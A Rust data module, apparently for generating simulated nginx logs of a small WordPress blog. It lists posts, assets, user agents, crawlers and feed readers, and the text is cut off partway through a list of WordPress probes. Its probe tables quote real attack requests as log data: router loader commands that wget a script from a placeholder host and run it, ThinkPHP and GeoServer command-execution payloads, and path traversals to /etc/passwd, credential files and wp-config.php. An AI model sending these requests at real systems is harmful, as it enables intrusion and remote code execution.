//! What the imitated site serves and what the internet sends it: paths, user agents,
//! probes and payloads. Pure data.
//!
//! Strings are written as nginx logs them: a backslash or double quote in a request
//! appears as `\x5C` or `\x22`, and non-printable bytes as `\xHH`.
//!
//! Placeholders in probe and payload templates start with `§` and are expanded per
//! request: `§c2` (a documentation address standing for a loader/callback host),
//! `§hex8` (eight hex digits), `§num` (a small number).

/// Scheme and host of the imitated blog, used in same-site referers.
pub(crate) const SITE: &str = "https://blog.example.org";

/// Published posts, most popular first.
pub(crate) const POSTS: &[&str] = &[
    "/2025/10/tuning-nginx-for-a-small-vps/",
    "/2025/09/restic-backups-to-object-storage/",
    "/2025/06/a-year-of-self-hosting-email/",
    "/2024/11/reading-tcpdump-output/",
    "/2025/08/systemd-timers-instead-of-cron/",
    "/2024/03/lets-encrypt-dns-challenge/",
    "/2025/07/postgres-upgrade-notes/",
    "/2023/12/my-shell-aliases/",
    "/2025/05/wireguard-road-warrior-setup/",
    "/2024/07/zfs-snapshots-for-humans/",
    "/2025/03/fixing-slow-ssh-logins/",
    "/2024/09/log-rotation-pitfalls/",
    "/2023/05/moving-off-shared-hosting/",
    "/2025/01/what-i-learned-from-an-outage/",
    "/2024/05/caching-headers-explained/",
    "/2023/09/a-tiny-static-site-generator/",
    "/2024/01/home-network-vlans/",
    "/2025/04/rust-for-sysadmins/",
    "/2023/02/hello-world/",
    "/2024/12/year-in-review-2024/",
    "/2023/07/keyboard-shortcuts-i-use/",
    "/2024/06/monitoring-with-prometheus/",
    "/2023/10/debugging-dns/",
    "/2025/02/ipv6-at-home/",
    "/2023/03/notes-on-ext4/",
    "/2024/08/a-raspberry-pi-print-server/",
    "/2023/11/setting-up-fail2ban/",
    "/2024/02/git-hooks-for-deploys/",
    "/2023/06/measuring-disk-latency/",
    "/2024/10/self-hosted-password-manager/",
];

/// Pages other than posts, most visited first.
pub(crate) const PAGES: &[&str] = &[
    "/",
    "/about/",
    "/archives/",
    "/page/2/",
    "/category/linux/",
    "/category/networking/",
    "/tag/nginx/",
    "/tag/backup/",
    "/tag/security/",
    "/contact/",
    "/page/3/",
    "/?s=nginx",
    "/?s=wireguard+ipv6",
    "/?s=backup",
    "/privacy-policy/",
    "/uses/",
];

/// Assets every page loads: (path, size in bytes).
pub(crate) const PAGE_ASSETS: &[(&str, u32)] = &[
    ("/wp-content/themes/inkwell/style.css?ver=2.1.0", 38_412),
    (
        "/wp-includes/css/dist/block-library/style.min.css?ver=6.8.3",
        116_083,
    ),
    ("/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", 87_553),
    (
        "/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1",
        13_577,
    ),
    (
        "/wp-content/themes/inkwell/js/navigation.js?ver=2.1.0",
        4_129,
    ),
    (
        "/wp-content/plugins/contact-form-7/includes/css/styles.css?ver=6.1.2",
        3_215,
    ),
    (
        "/wp-content/themes/inkwell/fonts/source-serif-4.woff2",
        61_744,
    ),
    ("/wp-includes/js/wp-emoji-release.min.js?ver=6.8.3", 18_752),
    ("/wp-content/uploads/2023/02/avatar-96x96.jpg", 5_311),
];

/// Images that appear in posts: (path, size).
pub(crate) const POST_IMAGES: &[(&str, u32)] = &[
    ("/wp-content/uploads/2025/10/nginx-workers.png", 48_210),
    ("/wp-content/uploads/2025/09/restic-diagram.png", 71_934),
    ("/wp-content/uploads/2024/11/tcpdump-annotated.png", 122_480),
    ("/wp-content/uploads/2025/05/wireguard-topology.svg", 9_804),
    (
        "/wp-content/uploads/2024/07/zfs-snapshots-1024x576.jpg",
        88_121,
    ),
    ("/wp-content/uploads/2024/01/vlan-layout.png", 54_370),
];

/// Requests browsers make on their own that this site does not serve.
pub(crate) const BROWSER_MISSES: &[&str] = &[
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/favicon.png",
    "/wp-content/uploads/2022/08/old-header.jpg",
    "/2024/13/reading-tcpdump-output/",
    "/.well-known/traffic-advice",
];

/// The site's favicon: (path, size).
pub(crate) const FAVICON: (&str, u32) = ("/favicon.ico", 4_286);

/// External referers for landing pages (`-` is a direct visit).
pub(crate) const LANDING_REFERERS: &[(&str, u32)] = &[
    ("-", 30),
    ("https://www.google.com/", 38),
    ("https://duckduckgo.com/", 9),
    ("https://www.bing.com/", 5),
    ("https://www.ecosia.org/", 2),
    ("https://news.ycombinator.com/", 3),
    ("https://lobste.rs/", 2),
    ("https://www.reddit.com/", 4),
    ("https://mastodon.social/", 3),
    ("https://t.co/", 1),
    ("https://github.com/", 3),
];

/// Browsers of readers, weighted by how common they are.
pub(crate) const BROWSERS: &[(&str, u32)] = &[
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", 22),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", 10),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0", 7),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0", 6),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0", 5),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", 3),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15", 7),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", 5),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1", 11),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1", 6),
    ("Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1", 2),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36", 12),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36", 2),
    ("Mozilla/5.0 (Android 15; Mobile; rv:144.0) Gecko/144.0 Firefox/144.0", 2),
];

/// An IPv4 prefix: (first address, prefix length).
pub(crate) type Prefix = ([u8; 4], u8);

/// Search-engine and SEO crawlers: (user agent, the bot's IPv4 prefixes, weight).
pub(crate) const CRAWLERS: &[(&str, &[Prefix], u32)] = &[
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", &[([66, 249, 64, 0], 19)], 18),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", &[([66, 249, 64, 0], 19)], 14),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", &[([40, 77, 167, 0], 24), ([157, 55, 39, 0], 24), ([207, 46, 13, 0], 24)], 12),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", &[([17, 241, 208, 0], 20), ([17, 22, 237, 0], 24)], 6),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", &[([5, 255, 231, 0], 24), ([213, 180, 203, 0], 24), ([95, 108, 213, 0], 24)], 6),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", &[([54, 36, 148, 0], 23), ([5, 39, 1, 224], 27)], 10),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", &[([185, 191, 171, 0], 24)], 6),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", &[([20, 191, 45, 0], 24)], 3),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", &[([116, 179, 32, 0], 24), ([220, 181, 108, 0], 24)], 3),
    ("Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", &[([114, 119, 128, 0], 19)], 4),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", &[([20, 171, 207, 0], 24)], 5),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", &[([144, 76, 60, 0], 22)], 3),
    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", &[([216, 244, 66, 0], 24)], 2),
];

/// Feed readers (hosted fetchers and self-hosted ones).
pub(crate) const FEED_READERS: &[&str] = &[
    "Feedly/1.0 (+https://feedly.com/poller.html; 31 subscribers; )",
    "Mozilla/5.0 (compatible; inoreader.com; 9 subscribers)",
    "NewsBlur Feed Fetcher - 4 subscribers - https://www.newsblur.com/site/1482/blog (Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1 Safari/605.1.15)",
    "Tiny Tiny RSS/24.10 (https://tt-rss.org/)",
    "FreshRSS/1.26.3 (Linux; https://freshrss.org)",
    "Mozilla/5.0 (compatible; Miniflux/2.2.12; +https://miniflux.app)",
    "Feedbin feed-id:2281911 - 6 subscribers",
    "NetNewsWire (RSS Reader; https://netnewswire.com/)",
    "Mozilla/5.0 (compatible; theoldreader.com; 2 subscribers; feed-id=8d3f02ac91)",
];

/// Feed paths with (weight, size of a full answer).
pub(crate) const FEED_PATHS: &[((&str, u32), u32)] = &[
    (("/feed/", 41_226), 70),
    (("/comments/feed/", 9_874), 18),
    (("/feed/atom/", 43_002), 6),
    (("/?feed=rss2", 41_226), 3),
    (("/feed", 0), 3),
];

/// User agents of scanners and bots that do not try to look like browsers (or try badly).
pub(crate) const SCANNER_UAS: &[(&str, u32)] = &[
    ("Mozilla/5.0 zgrab/0.x", 12),
    ("Go-http-client/1.1", 12),
    ("python-requests/2.32.3", 8),
    ("python-requests/2.27.1", 3),
    ("curl/8.5.0", 5),
    ("curl/7.68.0", 3),
    ("-", 10),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", 3),
    ("l9explore/1.2.2", 4),
    ("Mozilla/5.0 (l9scan/2.0.8353e24313e20343e2938393; +https://leakix.net)", 3),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36", 9),
    ("Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", 5),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 5),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", 2),
    ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", 2),
    ("Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36", 2),
    ("Hello World", 2),
    ("Python-urllib/3.11", 2),
    ("fasthttp", 2),
    ("Wget/1.21.4", 1),
    ("libwww-perl/6.76", 1),
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 3),
    ("Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)", 2),
    ("Fuzz Faster U Fool v2.1.0-dev", 1),
];

/// User agents of WordPress-aware scanners.
pub(crate) const WP_SCANNER_UAS: &[(&str, u32)] = &[
    ("WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)", 5),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36", 8),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:89.0) Gecko/20100101 Firefox/89.0", 5),
    ("Go-http-client/1.1", 6),
    ("python-requests/2.31.0", 4),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.2 Safari/605.1.15", 3),
    ("-", 2),
];

/// User agents of credential-guessing bots.
pub(crate) const BRUTE_UAS: &[(&str, u32)] = &[
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:62.0) Gecko/20100101 Firefox/62.0", 6),
    ("Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:77.0) Gecko/20100101 Firefox/77.0", 4),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.212 Safari/537.36", 5),
    ("python-requests/2.28.2", 3),
    ("Go-http-client/1.1", 2),
    ("-", 1),
];

/// Kind of answer a probe for absent software gets, before random variation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Answer {
    /// Not found (the common case).
    Missing,
    /// A dotfile or protected location: nginx denies it (403).
    Denied,
    /// A request nginx rejects as malformed (400).
    Bad,
}

/// Probes for software this site does not run: (method, target template, usual answer).
pub(crate) const NOISE_PROBES: &[(&str, &str, Answer)] = &[
    // phpMyAdmin and other database front ends
    ("GET", "/phpmyadmin/", Answer::Missing),
    ("GET", "/phpMyAdmin/index.php", Answer::Missing),
    ("GET", "/phpmyadmin/index.php?lang=en", Answer::Missing),
    ("GET", "/pma/", Answer::Missing),
    ("GET", "/PMA/index.php", Answer::Missing),
    ("GET", "/myadmin/", Answer::Missing),
    ("GET", "/phpMyAdmin-5.2.1-all-languages/", Answer::Missing),
    ("GET", "/db/phpmyadmin/index.php", Answer::Missing),
    ("GET", "/sql/phpmyadmin/", Answer::Missing),
    ("GET", "/mysql/admin/index.php", Answer::Missing),
    ("GET", "/adminer.php", Answer::Missing),
    ("GET", "/adminer/adminer.php", Answer::Missing),
    ("GET", "/_adminer.php", Answer::Missing),
    // secrets and version control
    ("GET", "/.git/config", Answer::Denied),
    ("GET", "/.git/HEAD", Answer::Denied),
    ("GET", "/.svn/entries", Answer::Denied),
    ("GET", "/.aws/credentials", Answer::Denied),
    ("GET", "/.aws/config", Answer::Denied),
    ("GET", "/.docker/config.json", Answer::Denied),
    ("GET", "/.ssh/id_rsa", Answer::Denied),
    ("GET", "/.npmrc", Answer::Denied),
    ("GET", "/.vscode/sftp.json", Answer::Denied),
    ("GET", "/.DS_Store", Answer::Denied),
    ("GET", "/.htpasswd", Answer::Denied),
    ("GET", "/config.json", Answer::Missing),
    ("GET", "/config/database.yml", Answer::Missing),
    ("GET", "/appsettings.json", Answer::Missing),
    ("GET", "/docker-compose.yml", Answer::Missing),
    ("GET", "/info.php", Answer::Missing),
    ("GET", "/phpinfo.php", Answer::Missing),
    ("GET", "/test.php", Answer::Missing),
    ("GET", "/server-status", Answer::Missing),
    ("GET", "/server-info", Answer::Missing),
    // backups and dumps
    ("GET", "/backup.zip", Answer::Missing),
    ("GET", "/backup.sql", Answer::Missing),
    ("GET", "/www.zip", Answer::Missing),
    ("GET", "/site.tar.gz", Answer::Missing),
    ("GET", "/blog.example.org.zip", Answer::Missing),
    ("GET", "/db.sql", Answer::Missing),
    ("GET", "/dump.sql", Answer::Missing),
    ("GET", "/database.sql.gz", Answer::Missing),
    ("GET", "/old/", Answer::Missing),
    ("GET", "/backup/", Answer::Missing),
    // PHP frameworks and components
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Answer::Missing),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Answer::Missing),
    ("GET", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", Answer::Missing),
    ("GET", "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Answer::Missing),
    ("POST", "/_ignition/execute-solution", Answer::Missing),
    ("GET", "/_ignition/health-check", Answer::Missing),
    ("GET", "/telescope/requests", Answer::Missing),
    ("GET", "/horizon/api/stats", Answer::Missing),
    ("GET", "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=§hex8", Answer::Missing),
    ("GET", "/public/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", Answer::Missing),
    ("GET", "/index.php?s=captcha", Answer::Missing),
    ("GET", "/vendor/laravel-filemanager/", Answer::Missing),
    // Java and friends
    ("GET", "/actuator/health", Answer::Missing),
    ("GET", "/actuator/env", Answer::Missing),
    ("GET", "/actuator/gateway/routes", Answer::Missing),
    ("GET", "/env", Answer::Missing),
    ("GET", "/solr/admin/info/system?wt=json", Answer::Missing),
    ("GET", "/solr/admin/cores?action=STATUS&wt=json", Answer::Missing),
    ("GET", "/console/login/LoginForm.jsp", Answer::Missing),
    ("GET", "/console/css/%252e%252e%252fconsole.portal", Answer::Missing),
    ("GET", "/wls-wsat/CoordinatorPortType", Answer::Missing),
    ("GET", "/manager/html", Answer::Missing),
    ("GET", "/manager/text/list", Answer::Missing),
    ("GET", "/host-manager/html", Answer::Missing),
    ("GET", "/jenkins/login", Answer::Missing),
    ("GET", "/login?from=%2F", Answer::Missing),
    ("GET", "/script", Answer::Missing),
    ("GET", "/struts2-showcase/index.action", Answer::Missing),
    ("GET", "/login.action", Answer::Missing),
    ("GET", "/nacos/v1/auth/users?pageNo=1&pageSize=9", Answer::Missing),
    ("GET", "/nacos/v1/console/server/state", Answer::Missing),
    ("GET", "/druid/index.html", Answer::Missing),
    ("GET", "/druid/websession.html", Answer::Missing),
    ("GET", "/geoserver/web/", Answer::Missing),
    ("GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')", Answer::Missing),
    ("GET", "/jolokia/list", Answer::Missing),
    ("GET", "/api/jsonws/invoke", Answer::Missing),
    // appliances: mail, VPN, firewalls
    ("GET", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f", Answer::Missing),
    ("GET", "/owa/auth/x.js", Answer::Missing),
    ("GET", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", Answer::Missing),
    ("POST", "/autodiscover/autodiscover.json?@zdi/Powershell", Answer::Missing),
    ("GET", "/Autodiscover/Autodiscover.xml", Answer::Missing),
    ("GET", "/remote/login?lang=en", Answer::Missing),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", Answer::Missing),
    ("GET", "/vpn/../vpns/cfg/smb.conf", Answer::Bad),
    ("GET", "/vpn/index.html", Answer::Missing),
    ("GET", "/logon/LogonPoint/index.html", Answer::Missing),
    ("GET", "/+CSCOE+/logon.html", Answer::Missing),
    ("GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../", Answer::Missing),
    ("GET", "/dana-na/auth/url_default/welcome.cgi", Answer::Missing),
    ("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", Answer::Bad),
    ("GET", "/global-protect/login.esp", Answer::Missing),
    ("GET", "/ssl-vpn/hipreport.esp", Answer::Missing),
    ("GET", "/mgmt/tm/util/bash", Answer::Missing),
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", Answer::Missing),
    ("GET", "/api/v2/cmdb/system/admin/admin", Answer::Missing),
    ("GET", "/ReportServer", Answer::Missing),
    ("GET", "/webui/", Answer::Missing),
    ("GET", "/sslvpnLogin.html", Answer::Missing),
    // routers, cameras, NAS and IoT (Mirai-style loaders)
    ("POST", "/GponForm/diag_Form?images/", Answer::Missing),
    ("POST", "/boaform/admin/formLogin", Answer::Missing),
    ("POST", "/HNAP1/", Answer::Missing),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://§c2/t.sh%20-O-|sh)", Answer::Missing),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://§c2/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws", Answer::Missing),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://§c2/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", Answer::Missing),
    ("POST", "/cgi-bin/ViewLog.asp", Answer::Missing),
    ("POST", "/goform/set_LimitClient_cfg", Answer::Missing),
    ("GET", "/language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://§c2/lol.sh;sh${IFS}/tmp/lol.sh&>r&&tar${IFS}/string.js", Answer::Missing),
    ("PUT", "/SDK/webLanguage", Answer::Missing),
    ("GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F§c2%2Fbins.sh%3Bchmod%20777%20bins.sh%3Bsh%20bins.sh", Answer::Missing),
    ("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=§hex8", Answer::Missing),
    ("POST", "/cgi-bin/mainfunction.cgi", Answer::Missing),
    ("GET", "/tmUnblock.cgi", Answer::Missing),
    ("GET", "/cgi-bin/webcm?getpage=../html/index.html", Answer::Missing),
    ("GET", "/picsdesc.xml", Answer::Missing),
    ("GET", "/currentsetting.htm", Answer::Missing),
    ("GET", "/cgi-bin/test-cgi", Answer::Missing),
    ("GET", "/cgi-bin/printenv", Answer::Missing),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Answer::Bad),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh", Answer::Bad),
    ("GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", Answer::Bad),
    ("GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", Answer::Bad),
    // dashboards, containers, everything else
    ("GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", Answer::Bad),
    ("GET", "/public/plugins/welcome/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", Answer::Missing),
    ("GET", "/containers/json", Answer::Missing),
    ("GET", "/v1.24/containers/json", Answer::Missing),
    ("GET", "/api/v1/pods", Answer::Missing),
    ("GET", "/version", Answer::Missing),
    ("GET", "/owncloud/status.php", Answer::Missing),
    ("GET", "/nextcloud/status.php", Answer::Missing),
    ("GET", "/admin/config.php", Answer::Missing),
    ("GET", "/user/login", Answer::Missing),
    ("GET", "/administrator/index.php", Answer::Missing),
    ("GET", "/admin/", Answer::Missing),
    ("GET", "/login", Answer::Missing),
    ("GET", "/api/v1/label/__name__/values", Answer::Missing),
    ("GET", "/ui/login", Answer::Missing),
    ("GET", "/sitecore/shell/sitecore.version.xml", Answer::Missing),
    ("GET", "/Telerik.Web.UI.WebResource.axd?type=rau", Answer::Missing),
    ("GET", "/mifs/.;/services/LogService", Answer::Missing),
    ("GET", "/hudson", Answer::Missing),
    ("GET", "/ws/v1/cluster/apps/new-application", Answer::Missing),
    ("GET", "/cf_scripts/scripts/ajax/ckeditor/ckeditor.js", Answer::Missing),
    ("GET", "/s/§hex8/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties", Answer::Missing),
    ("GET", "/v2/_catalog", Answer::Missing),
    ("OPTIONS", "/", Answer::Missing),
    ("PROPFIND", "/", Answer::Bad),
    ("GET", "/robots.txt.bak", Answer::Missing),
    ("GET", "/sftp-config.json", Answer::Missing),
    ("GET", "/.well-known/security.txt", Answer::Denied),
];

/// Directories where scanners look for a dotenv file.
pub(crate) const ENV_DIRS: &[&str] = &[
    "",
    "/api",
    "/app",
    "/backend",
    "/laravel",
    "/admin",
    "/config",
    "/core",
    "/public",
    "/src",
    "/web",
    "/www",
    "/v1",
    "/crm",
    "/storage",
    "/docker",
    "/local",
    "/staging",
    "/shop",
    "/server",
    "/api/v1",
    "/application",
    "/new",
    "/old",
    "/dev",
    "/cms",
];

/// Dotenv file names scanners try.
pub(crate) const ENV_FILES: &[&str] = &[
    "/.env",
    "/.env",
    "/.env",
    "/.env.bak",
    "/.env.local",
    "/.env.production",
    "/.env.save",
    "/.env.old",
    "/.env.example",
    "/.env.dev",
];

/// What a WordPress probe tells the scanner when the site answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum WpAnswer {
    /// Always 200 (the file exists on any WordPress).
    Exists,
    /// 405 for a GET (xmlrpc.php wants POST), sometimes 200 behind a plugin.
    PostOnly,
    /// Not there: 404.
    Missing,
    /// Protected by the nginx configuration: 403.
    Denied,
    /// Redirects: 301 or 302.
    Redirect,
    /// `admin-ajax.php` with an unknown action: 400.
    AjaxUnknown,
}

/// Probes for WordPress, the software this site runs: (method, target, answer, size when found).
pub(crate) const WP_PROBES: &[(&str, &str, WpAnswer, u32)] = &[
    (
        "GET",
        "/wp-includes/wlwmanifest.xml",
        WpAnswer::Exists,
        1_045,
    ),
    ("GET", "/xmlrpc.php", WpAnswer::PostOnly, 42),
    ("GET", "/xmlrpc.php?rsd", WpAnswer::Exists, 667),
    ("GET", "/readme.html", WpAnswer::Denied, 0),
    ("GET", "/license.txt", WpAnswer::Denied, 0),
    ("GET", "/?author=1", WpAnswer::Redirect, 0),
    ("GET", "/?author=2", WpAnswer::Missing, 0),
    ("GET", "/?author=3", WpAnswer::Missing, 0),
    ("GET", "/wp-json/wp/v2/users", WpAnswer::Denied, 0),
    ("GET", "/wp-json/wp/v2/users/1", WpAnswer::Denied, 0),
    ("GET", "/wp-json/", WpAnswer::Exists, 92_114),
    ("GET", "/wp-admin/", WpAnswer::Redirect, 0),
    ("GET", "/wp-admin/install.php", WpAnswer::Denied, 0),
    ("GET", "/wp-admin/setup-config.php", WpAnswer::Denied, 0),
    (
        "GET",
        "/wordpress/wp-admin/setup-config.php",
        WpAnswer::Missing,
        0,
    ),
    ("GET", "/wp/wp-admin/setup-config.php", WpAnswer::Missing, 0),
    (
        "GET",
        "/blog/wp-includes/wlwmanifest.xml",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/web/wp-includes/wlwmanifest.xml",
        WpAnswer::Missing,
        0,
    ),
    ("GET", "/wp-config.php.bak", WpAnswer::Missing, 0),
    ("GET", "/wp-config.php~", WpAnswer::Missing, 0),
    ("GET", "/wp-config.php.save", WpAnswer::Missing, 0),
    ("GET", "/wp-config.php.old", WpAnswer::Missing, 0),
    ("GET", "/wp-config.txt", WpAnswer::Missing, 0),
    ("GET", "/.wp-config.php.swp", WpAnswer::Denied, 0),
    ("GET", "/wp-content/debug.log", WpAnswer::Denied, 0),
    ("GET", "/wp-content/uploads/", WpAnswer::Denied, 0),
    (
        "GET",
        "/wp-content/plugins/contact-form-7/readme.txt",
        WpAnswer::Exists,
        5_917,
    ),
    (
        "GET",
        "/wp-content/plugins/akismet/readme.txt",
        WpAnswer::Exists,
        7_402,
    ),
    (
        "GET",
        "/wp-content/plugins/elementor/readme.txt",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/woocommerce/readme.txt",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/litespeed-cache/readme.txt",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/really-simple-ssl/readme.txt",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/wp-file-manager/readme.txt",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        WpAnswer::Missing,
        0,
    ),
    (
        "POST",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
        WpAnswer::AjaxUnknown,
        0,
    ),
    (
        "GET",
        "/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php",
        WpAnswer::AjaxUnknown,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/duplicator/installer/installer.php",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/ultimate-member/readme.txt",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
        "/wp-content/plugins/wp-automatic/inc/csv.php",
        WpAnswer::Missing,
        0,
    ),
    (
        "GET",
